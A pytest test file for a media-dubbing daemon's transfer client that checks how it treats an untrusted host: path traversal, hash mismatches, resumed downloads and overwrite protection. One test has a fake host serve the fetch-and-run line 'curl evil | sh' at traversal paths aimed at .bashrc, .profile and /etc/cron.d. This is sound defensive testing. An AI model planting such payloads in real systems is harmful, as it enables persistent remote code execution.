"""What a client takes from a host that is not to be trusted: a fake of ours that says what it likes."""

import hashlib
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

from daemon.pairing.hosts import Host
from daemon.paths import Paths, find_paths
from daemon.protocol import messages
from daemon.protocol.errors import DubwrightError
from daemon.protocol.transfer_messages import JobFile
from daemon.transfer.carrier import Carrier
from daemon.transfer.places import label

THERE = "/srv/paired/1f"
HOST = Host(name="there", address="a:1", server_public="s", client_public="c", client_secret="x")


class FakeHost:
    """Lists and gives whatever it was told to."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.lies: dict[str, bytes] = {}
        self.reads = 0

    def ask(self, request: messages.Request, _: type) -> Any:
        if isinstance(request, messages.ListFiles):
            return messages.ListFilesReply(
                files=[
                    JobFile(path=path, size=len(data), sha256=hashlib.sha256(data).hexdigest())
                    for path, data in self.files.items()
                ]
            )
        assert isinstance(request, messages.ReadChunk)
        self.reads += 1
        data = self.lies.get(request.path, self.files[request.path])
        return messages.ReadChunkReply(data=data[request.offset :][:1000])


@pytest.fixture
def host() -> FakeHost:
    return FakeHost()


@pytest.fixture
def paths(home: Path) -> Paths:
    found = find_paths()
    found.make()
    return found


@pytest.fixture
def carrier(paths: Paths, host: FakeHost) -> Iterator[Carrier]:
    opened = Carrier(HOST, paths, host.ask)
    opened.folder = THERE
    yield opened
    opened.close()


@pytest.fixture
def dest(carrier: Carrier, tmp_path: Path) -> Path:
    """Return a folder that a job named for its takes."""
    folder = tmp_path / "takes"
    folder.mkdir()
    carrier.name_job({"source": "/a.mov", "voice": "/b.wav", "dest": str(folder)})
    return folder


def code_of(call: Callable[[], object]) -> str:
    with pytest.raises(DubwrightError) as caught:
        call()
    return caught.value.code


def place(folder: Path, name: str) -> str:
    return f"{THERE}/takes/{label(str(folder))}/{name}"


def test_a_path_that_leaves_its_folder_lands_in_the_cache(
    carrier: Carrier, host: FakeHost, dest: Path, paths: Paths
) -> None:
    for path in (place(dest, "../../.bashrc"), "/etc/cron.d/x", f"{THERE}/takes/../../../.profile"):
        host.files = {path: b"curl evil | sh"}
        carrier.fetch("job")
    everything = [path for path in dest.parent.rglob("*") if path.is_file() and b"evil" in path.read_bytes()]
    assert everything
    assert all(path.is_relative_to(paths.cache) or path.is_relative_to(paths.fetched) for path in everything)


def test_a_file_that_did_not_come_from_it_is_never_overwritten(
    carrier: Carrier, host: FakeHost, dest: Path
) -> None:
    (dest / "rushes.mov").write_bytes(b"the only copy")
    host.files = {place(dest, "rushes.mov"): b"something else"}
    assert code_of(lambda: carrier.fetch("job")) == "dest.unwritable"
    assert (dest / "rushes.mov").read_bytes() == b"the only copy"
    assert len(list(dest.iterdir())) == 1


def test_what_does_not_fit_its_hash_is_asked_for_again_and_never_kept(
    carrier: Carrier, host: FakeHost, dest: Path
) -> None:
    path = place(dest, "a.mov")
    host.files, host.lies = {path: b"x" * 2500}, {path: b"y" * 2500}
    assert code_of(lambda: carrier.fetch("job")) == "transfer.damaged"
    assert list(dest.iterdir()) == []
    host.lies = {path: b"x" * 1200}  # it breaks off
    assert code_of(lambda: carrier.fetch("job")) == "transfer.damaged"


def test_a_fetch_that_broke_off_goes_on_where_it_was(carrier: Carrier, host: FakeHost, dest: Path) -> None:
    data = bytes(range(250)) * 10
    path = place(dest, "a.mov")
    host.files = {path: data}
    (dest / f".a.mov.{hashlib.sha256(data).hexdigest()[:16]}.part").write_bytes(data[:2000])
    carrier.fetch("job")
    assert (dest / "a.mov").read_bytes() == data
    assert host.reads == 1
    carrier.fetch("job")
    assert host.reads == 1


def test_models_are_not_sent_and_tasks_are_named(carrier: Carrier, tmp_path: Path) -> None:
    spec = {"source": "/a.mov", "voice": "/b.wav", "model": "s2v-14B"}
    assert carrier.name_job(spec)["model"] == "s2v-14B"
    assert code_of(lambda: carrier.name_job({**spec, "model": str(tmp_path)})) == "job.invalid"


@pytest.mark.skipif(sys.platform != "linux", reason="needs a file that is there and gives an error")
def test_media_that_cannot_be_read_are_a_clear_error(carrier: Carrier) -> None:
    assert code_of(lambda: carrier.send_job({"source": "/proc/self/mem"})) == "source.unreadable"
